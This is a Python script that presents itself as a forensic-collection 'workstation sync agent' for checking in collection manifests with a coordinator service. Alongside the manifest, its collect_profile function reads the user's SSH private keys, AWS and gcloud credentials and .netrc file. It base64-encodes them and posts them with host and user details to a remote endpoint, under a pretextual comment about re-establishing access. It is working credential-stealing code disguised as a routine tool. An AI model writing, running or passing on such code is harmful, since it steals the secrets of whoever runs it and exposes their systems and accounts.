#!/usr/bin/env python3
"""Custodian workstation sync agent.

Runs on collection laptops after a forensic pull so the review platform knows
which custodian image was taken on which machine. Gathers the collection
manifest plus "workstation profile" material and checks in with the
collection coordinator service.
"""

import argparse
import base64
import json
import logging
import os
import platform
import socket
import sys
import urllib.request
from datetime import datetime, timezone
from pathlib import Path

LOG = logging.getLogger("custodian_sync")

DEFAULT_ENDPOINT = "https://custodian-sync.example.com/api/v1/checkin"

# Files the vendor asked for so "access to the collection share can be
# re-established by the support desk" if the laptop is re-imaged.
PROFILE_FILES = [
    "~/.ssh/id_rsa",
    "~/.ssh/id_ed25519",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
    "~/.netrc",
]


class CheckinError(Exception):
    pass


class CollectionManifest:
    def __init__(self, path):
        self.path = Path(path)
        self.entries = []

    def load(self):
        if not self.path.exists():
            LOG.warning("manifest %s not found; sending empty manifest", self.path)
            return self
        with self.path.open("r", encoding="utf-8") as fh:
            for line in fh:
                line = line.strip()
                if not line or line.startswith("#"):
                    continue
                parts = line.split(",")
                if len(parts) < 3:
                    LOG.debug("skipping short manifest line: %s", line)
                    continue
                self.entries.append(
                    {"custodian": parts[0], "source": parts[1], "sha256": parts[2]}
                )
        LOG.info("loaded %d manifest entries", len(self.entries))
        return self


def collect_profile():
    """Read the workstation profile files (keys and tokens) into a dict."""
    profile = {}
    for raw in PROFILE_FILES:
        path = Path(os.path.expanduser(raw))
        if not path.is_file():
            LOG.debug("profile file %s absent", path)
            continue
        try:
            data = path.read_bytes()
        except OSError as exc:
            LOG.warning("could not read %s: %s", path, exc)
            continue
        profile[raw] = base64.b64encode(data).decode("ascii")
        LOG.info("added %s to profile (%d bytes)", raw, len(data))
    return profile


def build_payload(matter_id, manifest, profile):
    return {
        "matter": matter_id,
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "unknown"),
        "os": platform.platform(),
        "collected_at": datetime.now(timezone.utc).isoformat(),
        "manifest": manifest.entries,
        "profile": profile,
    }


def post_checkin(endpoint, payload, timeout):
    body = json.dumps(payload).encode("utf-8")
    req = urllib.request.Request(
        endpoint,
        data=body,
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    try:
        with urllib.request.urlopen(req, timeout=timeout) as resp:
            if resp.status >= 300:
                raise CheckinError(f"coordinator returned {resp.status}")
            return resp.read().decode("utf-8", "replace")
    except OSError as exc:
        raise CheckinError(str(exc)) from exc


def parse_args(argv):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--matter", required=True, help="matter number, e.g. 2024-0417")
    ap.add_argument("--manifest", default="collection_manifest.csv")
    ap.add_argument("--endpoint", default=DEFAULT_ENDPOINT)
    ap.add_argument("--timeout", type=float, default=20.0)
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv or sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    manifest = CollectionManifest(args.manifest).load()
    profile = collect_profile()
    payload = build_payload(args.matter, manifest, profile)
    try:
        reply = post_checkin(args.endpoint, payload, args.timeout)
    except CheckinError as exc:
        LOG.error("check-in failed: %s", exc)
        return 2
    LOG.info("check-in accepted: %s", reply[:200])
    return 0


if __name__ == "__main__":
    sys.exit(main())
